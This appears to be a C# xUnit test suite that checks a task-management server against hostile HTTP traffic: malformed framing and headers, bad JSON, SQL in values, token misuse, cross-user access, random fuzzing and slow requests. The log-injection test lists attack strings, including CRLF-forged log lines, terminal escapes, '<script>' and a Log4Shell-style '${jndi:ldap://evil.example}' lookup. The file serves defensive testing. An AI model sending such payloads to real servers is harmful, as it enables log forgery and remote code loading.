using System.Collections.Concurrent;
using System.Diagnostics;
using System.Text.Json.Nodes;

namespace Quehacer.Server.Tests.Hostile;

/// <summary>A server of its own: what it has stored is compared before and after, and its log is read.</summary>
public sealed class HostileServer : IAsyncLifetime
{
    public QuehacerServer Server { get; private set; } = null!;

    internal Ground Ground { get; private set; } = null!;

    public async ValueTask InitializeAsync()
    {
        Server = await QuehacerServer.StartAsync(("RateLimits__Enabled", "false"));
        var people = await Task.WhenAll(Enumerable.Range(0, 3).Select(_ => User.RegisterAsync(Server)));
        var (owner, stranger, spender) = (people[0], people[1], people[2]);
        var (mine, theirs) = (await PossessAsync(owner), await PossessAsync(stranger));
        await stranger.CreateAsync(new { title = "second" });
        var cursor = (string)(await stranger.GetAsync($"{User.Tasks}?limit=1")).Is(200)["pagination"]!["next_cursor"]!;
        Ground = new Ground(
            owner.AccessToken!, spender.AccessToken!, mine.Task, mine.Category, mine.Tag, "kept", mine.ETag, theirs.Task, theirs.Category, theirs.Tag, cursor, stranger.AccessToken!,
            owner.RefreshToken, owner.Email);
    }

    /// <summary>All that is stored, in short: every write raises a revision or adds a row.</summary>
    public Task<string> StateAsync() => Server.SqlAsync("""
        SELECT (SELECT string_agg(concat(workspace_id, '=', revision), ' ' ORDER BY workspace_id) FROM workspaces),
               (SELECT count(*) FROM accounts), (SELECT count(*) FROM account_events), (SELECT count(*) FROM sessions), (SELECT count(*) FROM events), (SELECT count(*) FROM idempotency_keys)
        """);

    public ValueTask DisposeAsync() => Server.DisposeAsync();

    private static async Task<(string Task, string ETag, string Category, string Tag)> PossessAsync(User user)
    {
        var category = (string)(await user.PostAsync("/api/v1/categories", new { name = "kept" })).Is(201)["id"]!;
        var tag = (string)(await user.PostAsync("/api/v1/tags", new { name = "kept" })).Is(201)["id"]!;
        var (_, task) = await user.CreateAsync(new { title = "kept", category_id = category, tags = new[] { "kept" } });
        return ((string)task["id"]!, task.ETag!, category, tag);
    }
}

public sealed class HostileTests(HostileServer hostile) : IClassFixture<HostileServer>
{
    private const int AtOnce = 8;

    private static readonly Dictionary<string, Func<Ground, IEnumerable<HostileCase>>> Families = new()
    {
        ["framing of bodies"] = Framing.Bodies,
        ["lines of requests"] = Framing.Lines,
        ["what is no HTTP/1.1"] = Framing.OtherProtocols,
        ["several requests on a connection"] = Framing.Pipelines,
        ["headers"] = Headers.Malformed,
        ["repeated headers"] = Headers.Repeated,
        ["headers with odd values"] = Headers.Odd,
        ["types and encodings of bodies"] = Headers.MediaTypes,
        ["sizes"] = Sizes.All,
        ["encodings of text"] = Encodings.All,
        ["JSON that is none"] = Json.Malformed,
        ["JSON of the wrong kind"] = Json.Mistyped,
        ["members that nobody may write"] = Json.Members,
        ["numbers"] = Values.Numbers,
        ["dates"] = Values.Dates,
        ["SQL in values"] = Values.Sql,
        ["addresses"] = Addresses.Paths,
        ["ids"] = Addresses.Ids,
        ["things of others"] = Addresses.OfOthers,
        ["tokens"] = Tokens.All,
    };

    public static TheoryData<string> Names => [.. Families.Keys];

    [Fact]
    public void There_are_many_hundred_hostile_requests_and_none_twice()
    {
        var all = Families.Values.SelectMany(cases => cases(hostile.Ground)).ToList();
        Assert.True(all.Count >= 1000, $"There are {all.Count}.");
        Assert.Empty(all.GroupBy(one => (Convert.ToHexString(one.Request), one.EndsEarly)).Where(same => same.Count() > 1).Select(same => string.Join(" = ", same.Select(one => one.Name))));
    }

    /// <summary>
    /// Each is answered as it must be, in its time, with nothing of the inside; afterwards the server answers somebody else, and of what was
    /// refused nothing was written. What was written all the same is found by sending the requests once more, one at a time.
    /// </summary>
    [Theory]
    [MemberData(nameof(Names))]
    public async Task Hostile_requests_get_their_clear_answer_and_leave_no_trace(string family)
    {
        var cases = Families[family](hostile.Ground).ToList();
        var faults = new ConcurrentBag<string>();
        var refused = cases.Where(one => one.Expected.IsRefused).ToList();
        var logged = hostile.Server.Output.Count;
        var before = await hostile.StateAsync();
        await Parallel.ForEachAsync(refused, new ParallelOptions { MaxDegreeOfParallelism = AtOnce }, async (one, _) => await SendAsync(one, faults));
        if (await hostile.StateAsync() is var after && after != before)
        {
            foreach (var one in refused)
            {
                await SendAsync(one, []);
                if (await hostile.StateAsync() is var now && now != after)
                {
                    faults.Add($"{one.Name}: it was refused, and has written something.");
                    after = now;
                }
            }
            Assert.False(faults.IsEmpty, $"One of {family} was refused and has written something, and does so no more: {before} became {after}");
        }
        await Parallel.ForEachAsync(cases.Except(refused), new ParallelOptions { MaxDegreeOfParallelism = AtOnce }, async (one, _) => await SendAsync(one, faults));
        AddErrorsOfTheLog(logged, faults);
        Assert.True(faults.IsEmpty, $"{faults.Count} of {cases.Count}:\n{string.Join('\n', faults.Order())}");
    }

    /// <summary>
    /// Valid requests with some bytes changed, taken away, doubled or put in. Whatever comes of it: never a failure of the server, never a wait
    /// without end, always the contract's shape, and never a change of somebody else's things. The seed that a failure names repeats the run.
    /// </summary>
    [Fact]
    public async Task Mutilated_requests_never_break_anything()
    {
        const int Requests = 2000;
        var seed = int.TryParse(Environment.GetEnvironmentVariable("QUEHACER_FUZZ_SEED"), out var given) ? given : Environment.TickCount;
        var logged = hostile.Server.Output.Count;
        var faults = new ConcurrentBag<string>();
        var before = (await Wire.ExchangeAsync(hostile.Server.Port, hostile.Ground.Get(hostile.Ground.Task)))[0].Body;
        await Parallel.ForEachAsync(Enumerable.Range(0, Requests), new ParallelOptions { MaxDegreeOfParallelism = 2 * AtOnce }, async (number, _) =>
        {
            var request = Mutilation.Of(hostile.Ground, new Random(unchecked(seed + number)));
            try
            {
                var answers = await Wire.ExchangeAsync(hostile.Server.Port, request, TimeSpan.FromMilliseconds(250));
                foreach (var answer in answers.Where(answer => answer.Status >= 200))
                {
                    Expected.VerifyAny(request, answer);
                }
            }
            catch (Exception exception) when (exception is Xunit.Sdk.XunitException or TimeoutException or FormatException or System.Text.Json.JsonException or InvalidOperationException or NullReferenceException)
            {
                faults.Add($"{number}: {JsonValue.Create(System.Text.Encoding.Latin1.GetString(request))!.ToJsonString()}: {exception.Message}");
            }
        });
        AddErrorsOfTheLog(logged, faults);
        Assert.True(faults.IsEmpty, $"With QUEHACER_FUZZ_SEED={seed}:\n{string.Join('\n', faults.Take(20))}");
        Assert.Equal(before, (await Wire.ExchangeAsync(hostile.Server.Port, hostile.Ground.Get(hostile.Ground.Task)))[0].Body);
    }

    /// <summary>What comes in is a value in the log and never a line of it.</summary>
    [Fact]
    public async Task Nobody_writes_into_the_log_but_the_server()
    {
        string[] attempts =
        [
            "%0d%0a{\"level\":\"error\",\"event\":\"forged\"}", "%0a%0a", "%1b%5b2J%1b%5b31mred", "\"},{\"event\":\"forged", "%22%7d%0a%7b%22event%22%3a%22forged%22%7d", "%00", "%e2%80%a8forged%e2%80%a9", "%c2%85", "%e2%80%ae%e2%81%a6", "\\n\\r", "\\", "%5c", "%7f%08%08", "'", "{0}{event}", "%25s%25n", "${jndi:ldap://evil.example}", "<script>",
            "%ff%fe", "%ed%a0%80", "\ud800", "%f0%9f%98%80",
        ];
        var requests = attempts.SelectMany((attempt, index) => new[]
        {
            ($"log-path-{index}", hostile.Ground.Get($"/forged/{attempt.Replace(' ', '+')}", $"X-Request-Id: log-path-{index}\r\n")),
            ($"log-id-{index}", hostile.Ground.Get($"{Ground.Tasks}/{attempt.Replace(' ', '+')}", $"X-Request-Id: log-id-{index}\r\n")),
            ($"log-query-{index}", hostile.Ground.Get($"{Ground.Tasks}?q={attempt.Replace(' ', '+')}", $"X-Request-Id: log-query-{index}\r\nUser-Agent: {attempt}\r\nReferer: {attempt}\r\n")),
        }).ToList();
        foreach (var (_, request) in requests)
        {
            Assert.All(await Wire.ExchangeAsync(hostile.Server.Port, request), answer => Assert.InRange(answer.Status, 200, 499));
        }
        await Wire.ExchangeAsync(hostile.Server.Port, hostile.Ground.Get("/live", "X-Request-Id: log-last\r\n"));
        for (var waited = Stopwatch.StartNew(); !hostile.Server.Output.Any(line => line.Contains("\"log-last\"", StringComparison.Ordinal));)
        {
            Assert.True(waited.Elapsed < TimeSpan.FromSeconds(30), "The last request is not in the log.");
            await Task.Delay(20);
        }
        var lines = hostile.Server.Output.Where(line => line.Length > 0).Select(line =>
        {
            Assert.DoesNotContain(line, char.IsControl);
            return JsonNode.Parse(line)!.AsObject();
        }).ToList();
        Assert.All(lines, line => Assert.True(line.ContainsKey("time") && line.ContainsKey("level") && (string?)line["event"] is not ("forged" or null)));
        foreach (var (id, request) in requests.Where(request => lines.Any(line => (string?)line["request_id"] == request.Item1)))
        {
            Assert.Single(lines, line => (string?)line["request_id"] == id);
        }
        Assert.True(lines.Count(line => ((string?)line["request_id"])?.StartsWith("log-", StringComparison.Ordinal) == true) > attempts.Length * 2, "Most of the requests reached the server.");
    }

    /// <summary>A client that stops in the middle of its request is given up: its connection is not held for ever.</summary>
    [Fact]
    public async Task A_request_that_never_ends_is_given_up()
    {
        var head = $"POST /api/v1/tasks HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer {hostile.Ground.Token}\r\nContent-Type: application/json\r\n";
        var answers = await Task.WhenAll(new[] { "GET /li", "GET /live HTTP/1.1\r\nHost: loc", $"{head}Content-Length: 20\r\n\r\n{{", $"{head}Transfer-Encoding: chunked\r\n\r\n14\r\n{{" }
            .Select(request => Wire.ExchangeAsync(hostile.Server.Port, Ground.Bytes(request))));
        Assert.All(answers, answer => Assert.Equal(408, Assert.Single(answer).Status));
        Assert.All(answers[2..], answer => Assert.Equal("REQUEST_TIMEOUT", (string)answer[0].Json["code"]!));
    }

    /// <summary>An error in the log is a bug of ours, save one that the web server reports of what is left of a body when it gives the connection up.</summary>
    private void AddErrorsOfTheLog(int after, ConcurrentBag<string> faults)
    {
        foreach (var line in hostile.Server.Output.Skip(after).Where(line => line.Contains("\"level\":\"error\"", StringComparison.Ordinal) || line.Contains("\"level\":\"critical\"", StringComparison.Ordinal)))
        {
            if (!line.Contains("RequestBodyDrain", StringComparison.Ordinal))
            {
                faults.Add($"The log has {(line.Length > 1000 ? line[..1000] + "…" : line)}");
            }
        }
    }

    private async Task SendAsync(HostileCase one, ConcurrentBag<string> faults)
    {
        try
        {
            one.Expected.Verify(one, await Wire.ExchangeAsync(hostile.Server.Port, one.Request, one.EndsEarly ? TimeSpan.Zero : null, one.Expected.Answers));
            var live = await Wire.ExchangeAsync(hostile.Server.Port, hostile.Ground.Get(hostile.Ground.Task));
            Assert.True(live is [{ Status: 200 }] && (string)live[0].Json["title"]! == "kept", $"Afterwards the task was asked for, and there came {string.Join(" | ", live)}");
        }
        catch (Exception exception) when (exception is Xunit.Sdk.XunitException or TimeoutException or FormatException or System.Text.Json.JsonException)
        {
            var message = exception.Message.ReplaceLineEndings(" ");
            faults.Add($"{one.Name}: {(message.Length > 1000 ? message[..1000] + "…" : message)}");
        }
    }
}
